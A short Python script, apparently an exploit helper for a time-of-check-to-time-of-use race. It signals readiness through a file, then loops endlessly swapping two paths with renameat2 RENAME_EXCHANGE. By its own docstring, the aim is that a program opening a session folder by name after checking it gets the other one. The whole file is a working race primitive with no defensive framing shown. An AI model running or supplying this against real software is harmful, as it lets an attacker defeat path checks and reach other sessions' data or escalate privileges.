#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""session_swap.py CENSUS READY A B - maps CENSUS, writes READY, and exchanges the names A and B again and again.

So whoever opens the folder of the session by its name, after it was checked, may get the other one.
"""
import ctypes
import mmap
import sys
import time

census, ready, a, b = sys.argv[1:]
with open(census, "rb") as f:
    kept = mmap.mmap(f.fileno(), 4096, prot=mmap.PROT_READ, flags=mmap.MAP_SHARED)
libc = ctypes.CDLL(None, use_errno=True)
open(ready, "w").close()
AT_FDCWD, RENAME_EXCHANGE = -100, 2
while True:
    if libc.renameat2(AT_FDCWD, a.encode(), AT_FDCWD, b.encode(), RENAME_EXCHANGE) != 0:
        sys.exit(str(ctypes.get_errno()))
    time.sleep(0.0005)
